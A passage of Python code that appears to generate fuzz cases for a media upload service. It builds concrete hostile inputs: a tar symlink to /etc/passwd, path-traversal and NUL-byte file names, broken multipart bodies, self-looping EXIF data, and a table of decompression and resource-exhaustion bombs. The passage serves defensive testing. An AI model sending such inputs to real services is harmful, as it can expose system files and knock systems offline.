    link = tarfile.TarInfo("a.png")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    archive.addfile(link)
  return buffer.getvalue()


# Right by the letter, and rare -----------------------------------------------------------------------------


def _unusual(rng: random.Random) -> Case:
  name, kind, _ = rng.choice(_UNUSUAL)
  data = _made(name)
  ending = name.rpartition(" ")[2]
  return _case(name.rpartition(" ")[0], kind, f"odd{ending}", data + rng.randbytes(2))


def _sides(width: int, height: int, count: int = 3) -> np.ndarray:
  return pictures(count, width=width, height=height)


def _wav(samples: bytes, *, rate_hz: int, bits: int = 32, form: int = 3, channels: int = 1) -> bytes:
  block = channels * bits // 8
  head = struct.pack("<HHIIHH", form, channels, rate_hz, (rate_hz * block) % (1 << 32), block, bits)
  body = (
    b"WAVEfmt " + struct.pack("<I", len(head)) + head + b"data" + struct.pack("<I", len(samples)) + samples
  )
  return b"RIFF" + struct.pack("<I", len(body)) + body


_WILD = np.array([np.nan, np.inf, -np.inf, 1e38, -1e38, 1e-45, 0.0, 5.0] * 4000, np.float32)
_H264 = {"preset": "ultrafast"}
# Name and ending, kind, and how it is made.
_UNUSUAL: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
  ("one pixel .png", "image", lambda: picture("PNG", pixels=_sides(1, 1)[0])),
  ("one row .png", "image", lambda: picture("PNG", pixels=_sides(9000, 1)[0])),
  ("one column .jpg", "image", lambda: picture("JPEG", pixels=_sides(1, 9000)[0])),
  ("one pixel .webp", "image", lambda: picture("WEBP", pixels=_sides(1, 1)[0])),
  ("an animation .webp", "image", lambda: _animation("WEBP")),
  ("an animation .png", "image", lambda: _animation("PNG")),
  ("turned .jpg", "image", lambda: picture("JPEG", exif=_exif(5))),
  ("turned by 9 .jpg", "image", lambda: picture("JPEG", exif=_exif(9))),
  ("one bit .png", "image", lambda: picture("PNG", mode="1")),
  ("two pixels .mp4", "video", lambda: video("mp4", "libx264", frames=_sides(2, 2), options=_H264)),
  (
    "odd sides .mkv",
    "video",
    lambda: video("matroska", "libx264", frames=_sides(97, 31), pixel_format="yuv444p", options=_H264),
  ),
  ("ten bits .mp4", "video", lambda: video("mp4", "libx264", pixel_format="yuv420p10le", options=_H264)),
  ("a strip .mp4", "video", lambda: video("mp4", "mpeg4", frames=_sides(2048, 16))),
  ("one frame .webm", "video", lambda: video("webm", "libvpx", frames=pictures(1))),
  (
    "clear .webm",
    "video",
    lambda: video(
      "webm", "libvpx", pixel_format="yuva420p", frames=pictures(3), options={"auto-alt-ref": "0"}
    ),
  ),
  (
    "uneven times .mkv",
    "video",
    lambda: video(
      "matroska", "libx264", frames=pictures(6), ticks=[0, 3, 900, 901, 60_000, 61_000], options=_H264
    ),
  ),
  (
    "hours between frames .mkv",
    "video",
    lambda: video("matroska", "libx264", frames=pictures(2), ticks=[0, 40_000_000], options=_H264),
  ),
  ("a thousand a second .mp4", "video", lambda: video("mp4", "mpeg4", rate=1000)),
  ("lossless .mkv", "video", lambda: video("matroska", "ffv1", frames=pictures(3))),
  ("five films .mkv", "video", lambda: video("matroska", "mpeg4", frames=pictures(2), streams=5)),
  ("no number .wav", "audio", lambda: _wav(_WILD.tobytes(), rate_hz=16_000)),
  (
    "no number, doubles .wav",
    "audio",
    lambda: _wav(_WILD.astype(np.float64).tobytes(), rate_hz=16_000, bits=64),
  ),
  ("one sample .wav", "audio", lambda: _wav(bytes(4), rate_hz=16_000)),
  ("one sample a second .wav", "audio", lambda: _wav(bytes(40), rate_hz=1, bits=8, form=1)),
  ("a million a second .wav", "audio", lambda: _wav(bytes(80_000), rate_hz=1_000_000)),
  ("silence .wav", "audio", lambda: _wav(bytes(64_000), rate_hz=16_000)),
  (
    "eight channels .wav",
    "audio",
    lambda: _wav(bytes(range(256)) * 64, rate_hz=48_000, bits=16, form=1, channels=8),
  ),
  (
    "sixty channels .wav",
    "audio",
    lambda: _wav(bytes(2 * 60 * 999), rate_hz=8000, bits=16, form=1, channels=60),
  ),
  ("half a sample .wav", "audio", lambda: _wav(bytes(3), rate_hz=16_000)),
  ("384 kHz .flac", "audio", lambda: audio("flac", "flac", rate_hz=384_000, seconds=0.2)),
  ("six channels .ogg", "audio", lambda: audio("ogg", "libopus", rate_hz=48_000, layout="5.1")),
  ("very loud .wav", "audio", lambda: _wav((np.ones(16_000, np.float32) * 1e6).tobytes(), rate_hz=16_000)),
)


@functools.cache
def _made(name: str) -> bytes:
  return next(make for known, _, make in _UNUSUAL if known == name)()


def _animation(form: str) -> bytes:
  from PIL import Image

  images = [Image.fromarray(pixels) for pixels in pictures(5)]
  buffer = io.BytesIO()
  images[0].save(buffer, form, save_all=True, append_images=images[1:], duration=40)
  return buffer.getvalue()


def _exif(orientation: int):
  from PIL import Image

  exif = Image.Exif()
  exif[274] = orientation
  return exif


# Depth -----------------------------------------------------------------------------------------------------


def _nested(rng: random.Random) -> Case:
  depth = rng.choice([20, 500, 5000, 20_000])
  kind, name, data = rng.choice(
    [
      ("video", "deep.mp4", lambda: _box(b"ftyp", b"isom\0\0\2\0isom") + _deep_boxes(b"moov", depth)),
      ("video", "deep.mov", lambda: _box(b"ftyp", b"qt  \0\0\2\0qt  ") + _deep_boxes(b"udta", depth)),
      ("audio", "deep.m4a", lambda: _box(b"ftyp", b"M4A \0\0\2\0M4A ") + _deep_boxes(b"trak", depth)),
      ("video", "deep.mkv", lambda: b"\x1aE\xdf\xa3\x80" + _deep_ebml(b"\x18\x53\x80\x67", min(depth, 3000))),
      (
        "video",
        "deep.webm",
        lambda: b"\x1aE\xdf\xa3\x80" + _deep_ebml(b"\x12\x54\xc3\x67", min(depth, 3000)),
      ),
      ("video", "deep.avi", lambda: b"RIFF\xff\xff\xff\x00AVI " + b"LIST\xff\xff\x00\x00hdrl" * depth),
      ("audio", "deep.wav", lambda: b"RIFF\xff\xff\xff\x00WAVE" + b"LIST\xff\xff\x00\x00INFO" * depth),
      (
        "image",
        "deep.jpg",
        lambda: b"\xff\xd8" + b"\xff\xe1\x00\x08Exif\0\0" * depth + whole("plain.jpg")[2:],
      ),
      ("image", "deep.png", lambda: _png_with_chunks(_png_chunk(b"tEXt", b"a\0b") * depth)),
      ("audio", "deep.mp3", lambda: b"ID3\x04\x00\x00\x00\x00\x00\x0a" * depth + whole("plain.mp3")),
      ("image", "loop.jpg", lambda: _exif_loop()),
    ]
  )
  return _case(f"{depth} deep", kind, name, data() + rng.randbytes(2))


def _box(name: bytes, content: bytes) -> bytes:
  return struct.pack(">I", len(content) + 8) + name + content


def _deep_boxes(name: bytes, depth: int) -> bytes:
  """Boxes in boxes, the innermost empty; of one piece, for joining each time would take quadratic time."""
  return b"".join(struct.pack(">I", 8 * (depth - level)) + name for level in range(depth))


def _deep_ebml(name: bytes, depth: int) -> bytes:
  step = len(name) + 8
  return b"".join(name + b"\x01" + (step * (depth - level - 1)).to_bytes(7, "big") for level in range(depth))


def _png_chunk(name: bytes, content: bytes) -> bytes:
  return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _png_with_chunks(chunks: bytes) -> bytes:
  data = whole("plain.png")
  return data[:33] + chunks + data[33:]


def _exif_loop() -> bytes:
  """A JPEG whose EXIF directory names itself as the next one, and as its own part."""
  entry = struct.pack(">HHII", 0x8769, 4, 1, 8)
  tiff = b"MM\0*" + struct.pack(">I", 8) + struct.pack(">H", 1) + entry + struct.pack(">I", 8)
  segment = b"Exif\0\0" + tiff
  return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + whole("plain.jpg")[2:]


# Forms -----------------------------------------------------------------------------------------------------


def _form(rng: random.Random) -> Case:
  """Whole files in forms that are not as they should be."""
  kind, name, data = _draw(rng)
  right = one_file(kind, name, data)
  other = {"video": "image", "image": "audio", "audio": "video"}[kind]
  what, made = rng.choice(
    [
      ("a path for a name", _case("", kind, f"../../../../tmp/{name}", data)),
      ("a path of Windows", _case("", kind, f"C:\\windows\\{name}", data)),
      ("a long name", _case("", kind, "a" * 5000 + name, data)),
      ("a name too long", _case("", kind, "a" * 20_000 + name, data)),
      ("a name with a zero", _case("", kind, f"a\0{name}", data)),
      ("a name that turns", _case("", kind, f"a\u202egpj.{name}", data)),
      ("a name of no characters", _case("", kind, "\udcff\udcfe" + name, data)),
      ("another field", _case("", kind, name, data, body=one_file(other, name, data))),
      ("two files", _case("", kind, name, data, body=right[: -len(BOUNDARY) - 6] + right)),
      ("a form cut off", _case("", kind, name, data, body=right[: len(right) // 2])),
      ("no end", _case("", kind, name, data, body=right[: -len(BOUNDARY) - 8])),
      ("another boundary", _case("", kind, name, data, body=one_file(kind, name, data, b"other"))),
      ("no form", _case("", kind, name, data, body=data)),
      ("no body", _case("", kind, name, data, body=b"")),
      (
        "a header without end",
        _case("", kind, name, data, body=b"--" + BOUNDARY + b"\r\nX: " + b"a" * 30_000),
      ),
      (
        "headers without end",
        _case("", kind, name, data, body=b"--" + BOUNDARY + b"\r\n" + b"X: a\r\n" * 5000),
      ),
      ("a thousand parts", _case("", kind, name, data, body=(b"--" + BOUNDARY + b"\r\n\r\na\r\n") * 1000)),
      ("a length that is less", _case("", kind, name, data, body=right, length=len(right) // 2)),
      ("a length beyond all", _case("", kind, name, data, body=right, length=1 << 62)),
      ("no name", _case("", kind, "", data)),
    ]
  )
  return dataclasses.replace(made, what=f"{name}: {what}")


# Bombs -----------------------------------------------------------------------------------------------------


def _png_of(width: int, height: int, *, depth: int = 1, colour: int = 0, body: bytes | None = None) -> bytes:
  if body is None:
    packer = zlib.compressobj(1)
    row = bytes(1 + (width * depth + 7) // 8)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
  header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
  return (
    b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b"")
  )


def _jpeg_of(width: int, height: int) -> bytes:
  data = bytearray(whole("plain.jpg"))
  at = data.index(b"\xff\xc0")
  data[at + 5 : at + 9] = struct.pack(">HH", height, width)
  return bytes(data)


def _webp_of(width: int, height: int) -> bytes:
  canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
  inner = whole("plain.webp")[12:]
  body = b"WEBPVP8X\x0a\0\0\0\0\0\0\0" + canvas + inner
  return b"RIFF" + struct.pack("<I", len(body)) + body


def _png_with(name: bytes, beginning: bytes, size: int) -> bytes:
  """A small PNG with a packed text or profile of so many zeros."""
  return _png_with_chunks(_png_chunk(name, beginning + _packed_zeros(size)))


def _packed_zeros(size: int) -> bytes:
  packer, piece = zlib.compressobj(1), bytes(1_000_000)
  return b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()


def _of_table(boxes: Mapping[bytes, bytes], data: bytes | None = None) -> bytes:
  """A film of H.264 without sound, with these boxes in place of its own."""
  source = video("mp4", "libx264", frames=np.zeros((1, 16, 16, 3), np.uint8), options=_H264)
  return rebuilt(source if data is None else data, boxes)


_HOLDERS = (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"edts")


def rebuilt(data: bytes, boxes: Mapping[bytes, bytes]) -> bytes:
  """An ISO file with other contents of the boxes that are named, and the sizes around them right."""
  made, at = bytearray(), 0
  while at + 8 <= len(data):
    size, name = int.from_bytes(data[at : at + 4], "big"), bytes(data[at + 4 : at + 8])
    size = size if size >= 8 else len(data) - at
    content = data[at + 8 : at + size]
    if name in boxes:
      content = boxes[name]
    elif name in _HOLDERS:
      content = rebuilt(content, boxes)
    made += _box(name, content)
    at += size
  return bytes(made)


def _one_frame_many_times(count: int, *, side: int = 16, duration: int = 512) -> bytes:
  """A film whose table names its one frame again and again; `duration` in 1/12800 s."""
  source = video("mp4", "libx264", frames=np.zeros((1, side, side, 3), np.uint8), options=_H264)
  at = source.index(b"mdat")
  size = int.from_bytes(source[at - 4 : at], "big") - 8
  tables = {
    b"stts": struct.pack(">IIII", 0, 1, count, duration),
    b"stsz": struct.pack(">III", 0, size, count),
    b"stsc": struct.pack(">IIIII", 0, 1, 1, 1, 1),
    b"stco": struct.pack(">II", 0, count) + struct.pack(">I", at + 4) * count,
    b"stss": struct.pack(">II", 0, 1) + struct.pack(">I", 1),
    b"edts": b"",
  }
  return rebuilt(source, tables)


def _many_streams(count: int) -> bytes:
  buffer = io.BytesIO()
  with av.open(buffer, "w", format="matroska", options={"fflags": "+bitexact"}) as target:
    tracks = [target.add_stream("pcm_s16le", rate=8000, layout="mono") for _ in range(count)]
    frame = av.AudioFrame.from_ndarray(np.zeros((1, 64), np.int16), format="s16", layout="mono")
    frame.sample_rate, frame.time_base, frame.pts = 8000, Fraction(1, 8000), 0
    for track in tracks[:2]:
      target.mux(track.encode(frame))
  return buffer.getvalue()


def _large_frames(count: int, *, side: int) -> bytes:
  """Grey frames, each a keyframe: two of them encoded, and written again and again."""
  options = {**_H264, "tune": "zerolatency", "x264-params": "cabac=1:qp=51"}
  buffer = io.BytesIO()
  with av.open(buffer, "w", format="mp4", options={"fflags": "+bitexact"}) as target:
    stream = target.add_stream("libx264", rate=25, options=options)
    stream.width = stream.height = side
    stream.pix_fmt = "yuv420p"
    stream.codec_context.gop_size, stream.codec_context.thread_count = 1, 1
    grey = av.VideoFrame(side, side, "yuv420p")
    for plane in grey.planes:
      plane.update(bytes([128]) * plane.buffer_size)
    pair = []
    for number in range(2):
      grey.pts, grey.time_base = number, Fraction(1, 25)
      pair += [bytes(packet) for packet in stream.encode(grey)]
    for number in range(count):
      packet = av.Packet(pair[number % 2])
      packet.stream, packet.pts, packet.dts, packet.time_base = stream, number, number, Fraction(1, 25)
      packet.duration, packet.is_keyframe = 1, True
      target.mux(packet)
  return buffer.getvalue()


def _packed_index(size: int) -> bytes:
  """A film of QuickTime whose index is packed: so many zeros."""
  packed = struct.pack(">I", size) + _packed_zeros(size)
  cmov = _box(b"cmov", _box(b"dcom", b"zlib") + _box(b"cmvd", packed))
  return _box(b"ftyp", b"qt  \0\0\2\0qt  ") + _box(b"moov", cmov)


def _avi_of(side: int) -> bytes:
  """A film of plain pixels whose headers say that it has so many on a side."""
  film = bytearray(video("avi", "rawvideo", frames=pictures(1, width=16, height=16), pixel_format="bgr24"))
  for mark, behind in ((b"avih", 36), (b"avih", 40), (b"strf", 8), (b"strf", 12)):
    at = film.index(mark) + 4 + behind
    film[at : at + 4] = struct.pack("<I", side)
  return bytes(film)


# Name: kind, name of the file, and how it is made.
BOMBS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
  "PNG of 30000 x 30000": ("image", "a.png", lambda: _png_of(30_000, 30_000)),
  "PNG of 2147483647 x 2147483647": ("image", "a.png", lambda: _png_of(2**31 - 1, 2**31 - 1, body=b"")),
  "JPEG of 65500 x 65500": ("image", "a.jpg", lambda: _jpeg_of(65_500, 65_500)),
  "WebP of 16383 x 16383": ("image", "a.webp", lambda: _webp_of(16_383, 16_383)),
  "PNG with a text of 100 MB": ("image", "a.png", lambda: _png_with(b"zTXt", b"a\0\0", 100_000_000)),
  "PNG with a profile of 100 MB": ("image", "a.png", lambda: _png_with(b"iCCP", b"a\0\0", 100_000_000)),
  "AVI of 12000 x 12000": ("video", "a.avi", lambda: _avi_of(12_000)),
  "AVI of 2147483647 x 2147483647": ("video", "a.avi", lambda: _avi_of(2**31 - 1)),
  "MP4, 60 frames of 4096 x 4096": ("video", "a.mp4", lambda: _large_frames(60, side=4096)),
  "MP4, one frame named 600000 times": ("video", "a.mp4", lambda: _one_frame_many_times(600_000)),
  "MP4, a frame every hour": ("video", "a.mp4", lambda: _one_frame_many_times(40, duration=3600 * 12_800)),
  "MP4 of 100000000 frames": (
    "video",
    "a.mp4",
    lambda: _of_table(
      {b"stts": struct.pack(">IIII", 0, 1, 10**8, 512), b"stsz": struct.pack(">III", 0, 1, 10**8)}
    ),
  ),
  "MOV with an index of 200 MB": ("video", "a.mov", lambda: _packed_index(200_000_000)),
  "MKV of 900 streams": ("video", "a.mkv", lambda: _many_streams(900)),
  "MP4 of 20000 boxes in each other": (
    "video",
    "a.mp4",
    lambda: _box(b"ftyp", b"isom\0\0\2\0isom") + _deep_boxes(b"moov", 20_000),
  ),
  "WAV of 28 hours in 100 kB": ("audio", "a.wav", lambda: _wav(bytes(100_000), rate_hz=1, bits=8, form=1)),
  "FLAC that says it has 2^36 samples": ("audio", "a.flac", lambda: _long_flac()),
  "zip in zip in zip as MP4": (
    "video",
    "a.mp4",
    lambda: functools.reduce(lambda inner, _: _zip({"a.zip": inner}), range(5), _zip({"a": bytes(10**7)})),
  ),
  "gzip of 100 MB as JPEG": ("image", "a.jpg", lambda: gzip.compress(bytes(10**8), 1, mtime=0)),
}


def _long_flac() -> bytes:
  data = bytearray(whole("plain.flac"))
  data[21] |= 0x0F
  data[22:26] = b"\xff" * 4
  return bytes(data)


@functools.cache
def bomb(name: str) -> bytes:
  """One of BOMBS."""
  return BOMBS[name][2]()


def _bomb(rng: random.Random) -> Case:
  name = rng.choice(list(BOMBS))
  kind, file_name, _ = BOMBS[name]
  return _case(name, kind, file_name, bomb(name) + rng.randbytes(2))


_FAMILIES: dict[str, Callable[[random.Random], Case]] = {
  "whole": _whole,
  "truncated": _truncated,
  "flipped": _flipped,
  "spliced": _spliced,
  "lying": _lying,
  "polyglot": _polyglot,
  "playlist": _playlist,
  "markup": _markup,
  "shell": _shell,
  "renamed": _renamed,
  "archive": _archive,
  "unusual": _unusual,
  "nested": _nested,
  "form": _form,
  "bomb": _bomb,
}
